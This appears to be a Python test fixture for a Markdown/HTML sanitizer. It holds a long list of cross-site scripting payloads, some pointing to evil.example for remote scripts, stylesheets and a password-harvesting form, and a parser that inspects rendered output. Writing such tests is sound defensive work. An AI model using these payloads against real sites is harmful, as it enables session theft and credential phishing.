"""Hostile Markdown and HTML, and a reader that says what a browser would make of the result."""

from html.parser import HTMLParser

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=/media/x.png onload=alert(1)>",
    '<img src="/media/../admin/delete">',
    '<img src="/media/%2e%2e/admin">',
    '<img src="/media//evil.example/x">',
    '<img src="//evil.example/x.png">',
    '<img src="https://evil.example/x.png" srcset="https://evil.example/y.png 2x">',
    '<img src="/media/x.png" srcset="//evil.example/y.png 2x" style="background:url(//evil.example)">',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href='javascript:alert(1)'>click</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=position:fixed;top:0;left:0>x</div>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#09;script:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='//evil.example' onclick='alert(1)' onmouseover=alert(1)>x</a>",
    "<a href='x' target=_blank rel=opener>x</a>",
    "<a id=location name=cookie href=x>x</a>",
    "<p id=config class='modal is-active'>x</p>",
    "<b/onclick=alert(1)>x</b>",
    "<b onclick\n=\nalert(1)>x</b>",
    "<p title='a\" onclick=\"alert(1)'>x</p>",
    '<abbr title="x" onmouseover="alert(1)">x</abbr>',
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:x)",
    '[x](https://example.org" onclick="alert(1))',
    "[x](https://example.org 'a\" onclick=\"alert(1)')",
    "[x](<https://example.org> \"a' onclick='alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://example.org/"onclick=alert(1)>',
    'https://example.org/"onclick="alert(1)',
    "http://a.example/'onclick='alert(1)",
    '![x](x" onerror="alert(1))',
    '![" onerror="alert(1)](/media/x.png)',
    '![x](/media/x.png "a\\" onerror=\\"alert(1)")',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![<script>alert(1)</script>](/media/x.png)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onclick="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "$</math><script>alert(1)</script>$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed}{x}$",
    '$\\class{x" onclick="alert(1)}{x}$',
    '$\\color{red" onclick="alert(1)}x$',
    "$$\n\\frac{<script>alert(1)</script>}{\n$$",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- [ ] <img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "~~<iframe>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\\<script>alert(1)</script>",
    "<b><p><a href=x><table><a href=javascript:alert(1)>x</b></a>",
    "<table><script>alert(1)</script><tr><td onclick=alert(1)>x</table>",
    "</div></main></body><script>alert(1)</script>",
    "</p></article><form>",
    "<p\x00onclick=alert(1)>",
    "<ｓcript>alert(1)</ｓcript>",
    "<a\u3000href=javascript:alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
    "<span class='hl-k navbar' data-hx-get=/x hx-get=/x>x</span>",
    "<a href=x hx-on:click=alert(1) data-method=delete>x</a>",
]

VOID = frozenset({"br", "hr", "img", "wbr", "mprescripts"})


class Elements(HTMLParser):
    """Collects every start tag with its attributes, and the text."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.words = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words.append(data)

    def handle_comment(self, data):
        self.tags.append(("comment", {}))

    def handle_decl(self, decl):
        self.tags.append(("declaration", {}))

    @property
    def text(self):
        return "".join(self.words)

    def named(self, name):
        return [attrs for tag, attrs in self.tags if tag == name]
